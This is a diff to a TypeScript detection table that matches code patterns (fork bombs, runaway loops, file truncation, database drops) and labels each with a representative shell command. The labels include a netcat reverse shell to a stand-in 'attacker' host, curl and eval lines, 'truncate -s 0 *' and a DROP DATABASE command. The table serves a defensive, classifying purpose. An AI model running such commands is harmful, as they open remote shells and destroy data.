@@ -207,10 +207,10 @@ const unknownCode = `eval '${hole}'`;
 const signs: readonly Sign[] = [
   { fits: (_code, online) => online, shell: `curl '${hole}'` },
   { fits: (code, online) => online && handsOutShell.test(code), shell: "nc -e /bin/sh attacker 1" },
-  { fits: (code) => /\b(os\.)?fork\b/.test(code) && /while|for|fork[^;]*fork/.test(code), shell: "forkbomb" },
+  { fits: (code) => /(\b|_)fork\b/.test(code) && /while|for|fork[^;]*fork/.test(code), shell: "forkbomb" },
   {
     fits: (code) =>
-      /while\s*(True|1|\(1\)|\(true\))/.test(code) &&
+      /while\s*(True|1|\(1\)|\(true\))|setInterval|for\s*\(;;/.test(code) &&
       /append|\+=|\*=|alloc|push|\.write\(/.test(code) &&
       !/sleep/.test(code),
     shell: "forkbomb",
@@ -262,6 +262,11 @@ const signs: readonly Sign[] = [
   {
     fits: (code) => libraries.test(code) && deletes.test(code),
     shell: "service data delete",
+  },
+  {
+    fits: (code) =>
+      /glob|walk\(|listdir|readdir/.test(code) && /\bopen\([^)]*,\s*['"]w/.test(code) && !/write/.test(code),
+    shell: "truncate -s 0 *",
   },
   { fits: (code) => /dropDatabase|DROP\s+(TABLE|DATABASE)|flushall/i.test(code), shell: "psql -c 'DROP DATABASE x'" },
 ];
